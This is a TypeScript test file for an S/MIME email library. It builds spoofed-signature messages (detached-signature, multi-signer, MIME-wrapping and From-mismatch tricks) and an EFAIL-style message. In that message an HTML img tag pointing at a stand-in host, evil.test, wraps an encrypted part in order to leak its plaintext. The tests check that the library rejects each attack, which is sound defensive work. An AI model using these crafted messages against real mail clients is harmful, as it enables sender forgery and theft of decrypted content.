// The attack classes of issue 3 ("Johnny, You Are Fired", EFAIL), each built as a message an
// attacker could send. Every case must end in the verdict a careful reader would want.
import * as pkijs from 'pkijs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestPki, type IssuedCertificate, type TestPki } from '../support/openssl-pki.js';
import { opensslDecryptor, opensslEncryptor } from '../support/openssl-envelope.js';
import { bytes, infoOf, plainMessage, signingIdentity, text } from '../support/smime-identities.js';
import { oids } from '../../core/asn1/oids.js';
import { viewOf } from '../../core/asn1/parse-der.js';
import { buildMessage, buildMultipartSignedEntity } from '../../core/mime/build-entities.js';
import { openMessage } from '../../core/smime/open.js';
import { sealMessage } from '../../core/smime/seal.js';
import { createSignature } from '../../core/smime/sign/create-signature.js';
import type { SigningIdentity } from '../../core/smime/sign/signing-identity.js';
import { readSignedData } from '../../core/smime/verify/signed-data.js';

// openssl makes fresh keys for every run; on a busy shared machine that takes seconds.
const pkiTimeout = 60_000;

let pki: TestPki;
let alice: IssuedCertificate;
let mallory: IssuedCertificate;
let bob: IssuedCertificate;
let aliceId: SigningIdentity;
let malloryId: SigningIdentity;

beforeAll(async () => {
  pki = createTestPki();
  alice = pki.issueUser({ email: 'alice@example.test', commonName: 'Alice', purpose: 'signing' });
  mallory = pki.issueUser({ email: 'mallory@evil.test', commonName: 'Mallory', purpose: 'signing' });
  bob = pki.issueUser({ email: 'bob@example.test', commonName: 'Bob', purpose: 'encryption' });
  aliceId = await signingIdentity(alice);
  malloryId = await signingIdentity(mallory);
}, pkiTimeout);
afterAll(() => pki.cleanup());

const trust = () => ({ anchors: [infoOf(pki.root)] });
const entity = (body: string) => bytes(`Content-Type: text/plain; charset=us-ascii\r\n\r\n${body}`);
const headers = (from = 'Alice <alice@example.test>', extra = '') =>
  [`From: ${from}\r\n`, ...(extra ? [extra] : []), 'To: bob@example.test\r\n', 'Subject: attack\r\n'].map(
    bytes,
  );
const signedMessage = (content: Uint8Array, signature: Uint8Array, fields = headers()) =>
  buildMessage(fields, buildMultipartSignedEntity(content, signature, 'sha-256'));

function reencode(der: Uint8Array, change: (signedData: pkijs.SignedData) => void): Uint8Array {
  const { signedData } = readSignedData(der);
  change(signedData);
  return viewOf(
    new pkijs.ContentInfo({ contentType: oids.signedData, content: signedData.toSchema(true) })
      .toSchema()
      .toBER(),
  );
}

describe('C1–C4: the signature itself', { timeout: pkiTimeout }, () => {
  it('C1: a detached signature that also carries eContent is invalid', async () => {
    const shown = entity('Pay Bob 10 EUR.\r\n');
    const signedOther = await createSignature(entity('Pay Mallory 10,000 EUR.\r\n'), aliceId, {
      detached: false,
    });
    const opened = await openMessage(signedMessage(shown, signedOther), trust());
    expect(opened.report.signature).toBe('invalid');
    expect(opened.report.errors[0].message).toMatch(/C1/);
    // Even when eContent repeats the shown content, a detached signature must not carry it.
    const same = await createSignature(shown, aliceId, { detached: false });
    expect((await openMessage(signedMessage(shown, same), trust())).report.signature).toBe('invalid');
  });

  it('C2: more than one SignerInfo is invalid', async () => {
    const content = entity('Two signers.\r\n');
    const aliceSig = await createSignature(content, aliceId);
    const mallorySig = await createSignature(content, malloryId);
    const doubled = reencode(aliceSig, (sd) => {
      const other = readSignedData(mallorySig).signedData;
      sd.signerInfos.push(other.signerInfos[0]);
      sd.certificates?.push(...(other.certificates ?? []));
    });
    const opened = await openMessage(signedMessage(content, doubled), trust());
    expect(opened.report.signature).toBe('invalid');
    expect(opened.report.errors[0].message).toMatch(/2 signers.*C2/);
  });

  it('C3: zero SignerInfos is invalid', async () => {
    const content = entity('No signer.\r\n');
    const none = reencode(await createSignature(content, aliceId), (sd) => {
      sd.signerInfos = [];
    });
    const opened = await openMessage(signedMessage(content, none), trust());
    expect(opened.report).toMatchObject({ signed: true, signature: 'invalid', signer: null });
    expect(opened.report.errors[0].message).toMatch(/no signer \(C3\)/);
  });

  it('C4: a self-signed signer is untrusted', async () => {
    const self = pki.selfSignedUser({ email: 'alice@example.test', purpose: 'signing' });
    const sealed = await sealMessage(plainMessage(), { sign: { identity: await signingIdentity(self) } });
    const opened = await openMessage(sealed, trust());
    expect(opened.report.signature).toBe('untrusted');
  });

  it('C4: a look-alike root with the trusted root’s name is untrusted', async () => {
    const fake = createTestPki(); // same default root name, different key
    try {
      const forged = fake.issueUser({ email: 'alice@example.test', purpose: 'signing' });
      const identity = await signingIdentity(forged, { chain: [fake.root] });
      const opened = await openMessage(await sealMessage(plainMessage(), { sign: { identity } }), trust());
      expect(opened.report.signature).toBe('untrusted');
    } finally {
      fake.cleanup();
    }
  });

  it('a signature whose signer certificate is missing is invalid, not an error', async () => {
    const content = entity('Where is the certificate?\r\n');
    const bare = reencode(await createSignature(content, aliceId), (sd) => {
      sd.certificates = [];
    });
    expect((await openMessage(signedMessage(content, bare), trust())).report.signature).toBe('invalid');
  });
});

describe('M1–M4: only a signed MIME root counts', { timeout: pkiTimeout }, () => {
  const innerSigned = async () => {
    const content = entity('Signed by Alice.\r\n');
    return buildMultipartSignedEntity(content, await createSignature(content, aliceId), 'sha-256');
  };
  const wrap = async (type: string, before: string, after = '') => {
    const signed = text(await innerSigned());
    return bytes(
      'From: alice@example.test\r\nTo: bob@example.test\r\nSubject: wrapped\r\nMIME-Version: 1.0\r\n' +
        `Content-Type: ${type}; boundary="outer"\r\n\r\n` +
        `--outer\r\n${before}\r\n--outer\r\n${signed}\r\n${after ? `--outer\r\n${after}\r\n` : ''}--outer--\r\n`,
    );
  };
  const cases: [string, () => Promise<Uint8Array>][] = [
    [
      'M1: signed part after unsigned text',
      () => wrap('multipart/mixed', 'Content-Type: text/plain\r\n\r\nPay Mallory.'),
    ],
    [
      'M2: signed part inside HTML alternative',
      () => wrap('multipart/alternative', 'Content-Type: text/html\r\n\r\n<p>Pay Mallory</p>'),
    ],
    [
      'M3: signed part referenced by cid: from HTML',
      () =>
        wrap(
          'multipart/related',
          'Content-Type: text/html\r\n\r\n<p>Pay Mallory</p><iframe src="cid:signed@x"></iframe>',
        ),
    ],
    [
      'M4: signed part as an attachment',
      () =>
        wrap(
          'multipart/mixed',
          'Content-Type: text/plain\r\n\r\nSee attachment.',
          'Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="x.bin"\r\n\r\nAAAA',
        ),
    ],
  ];
  it.each(cases)('%s is not signed', async (_name, build) => {
    const opened = await openMessage(await build(), trust());
    expect(opened.report).toMatchObject({
      signed: false,
      signature: 'none',
      signer: null,
      fromMatchesSigner: null,
    });
    expect(opened.report.warnings.map((w) => w.code)).toContain('NESTED_PART_IGNORED');
  });
});

describe('I1–I3: From against the signer', { timeout: pkiTimeout }, () => {
  const signedAs = async (fields: Uint8Array[], identity = aliceId) => {
    const content = entity('Hello.\r\n');
    return openMessage(signedMessage(content, await createSignature(content, identity), fields), trust());
  };

  it('I1: From differs from the signer', async () => {
    const opened = await signedAs(headers('Alice <alice@example.test>'), malloryId);
    expect(opened.report).toMatchObject({
      signature: 'valid',
      from: 'alice@example.test',
      fromMatchesSigner: false,
    });
    expect(opened.report.errors.map((e) => e.code)).toContain('SIGNER_MISMATCH');
  });

  it('I2: an address in the display name does not count', async () => {
    const opened = await signedAs(headers('"alice@example.test" <mallory@evil.test>'), aliceId);
    expect(opened.report).toMatchObject({ from: 'mallory@evil.test', fromMatchesSigner: false });
    const reverse = await signedAs(headers('"Alice <alice@example.test>" <mallory@evil.test>'), malloryId);
    expect(reverse.report).toMatchObject({ from: 'mallory@evil.test', fromMatchesSigner: true });
  });

  it('I3: several From fields never match', async () => {
    const opened = await signedAs(headers('alice@example.test', 'From: mallory@evil.test\r\n'), aliceId);
    expect(opened.report.fromMatchesSigner).toBe(false);
    const list = await signedAs(headers('alice@example.test, mallory@evil.test'), aliceId);
    expect(list.report.fromMatchesSigner).toBe(false);
  });

  it('I3: Sender does not stand in for From', async () => {
    const opened = await signedAs(
      headers('Alice <alice@example.test>', 'Sender: mallory@evil.test\r\n'),
      malloryId,
    );
    expect(opened.report.fromMatchesSigner).toBe(false);
  });

  it('domains compare case-insensitively', async () => {
    const opened = await signedAs(headers('ALICE@Example.TEST'), aliceId);
    expect(opened.report.fromMatchesSigner).toBe(true);
  });
});

describe('EFAIL: decrypted parts are never merged with unencrypted parts', { timeout: pkiTimeout }, () => {
  it('an encrypted part nested under HTML is neither decrypted nor shown', async () => {
    const secret = entity('The launch code is 0000.\r\n');
    const encrypted = await opensslEncryptor(pki, [bob])(secret);
    const body = Buffer.from(encrypted.der).toString('base64').replace(/.{76}/g, '$&\r\n');
    const message = bytes(
      'From: alice@example.test\r\nTo: bob@example.test\r\nSubject: efail\r\nMIME-Version: 1.0\r\n' +
        'Content-Type: multipart/mixed; boundary="b"\r\n\r\n' +
        '--b\r\nContent-Type: text/html\r\n\r\n<img src="https://evil.test/?\r\n' +
        `--b\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data\r\nContent-Transfer-Encoding: base64\r\n\r\n${body}\r\n` +
        '--b\r\nContent-Type: text/html\r\n\r\n">\r\n--b--\r\n',
    );
    const calls: Uint8Array[] = [];
    const opened = await openMessage(message, { ...trust(), decrypt: opensslDecryptor(pki, bob, calls) });
    expect(calls).toHaveLength(0);
    expect(opened.report).toMatchObject({ encrypted: false, decrypted: false });
    expect(text(opened.message)).not.toContain('launch code');
    expect(opened.report.warnings.map((w) => w.code)).toContain('NESTED_PART_IGNORED');
  });

  it('a decrypted root is returned alone, under the outer header fields only', async () => {
    const sealed = await sealMessage(plainMessage({ body: 'Only this.\r\n' }), {
      encrypt: opensslEncryptor(pki, [bob]),
    });
    const opened = await openMessage(sealed, { ...trust(), decrypt: opensslDecryptor(pki, bob) });
    expect(opened.report).toMatchObject({
      encrypted: true,
      decrypted: true,
      signed: false,
      signature: 'none',
    });
    const shown = text(opened.message);
    expect(shown).toContain('Subject: Quarterly figures');
    expect(shown).toContain('Only this.');
    expect(shown).not.toContain('pkcs7-mime');
  });
});
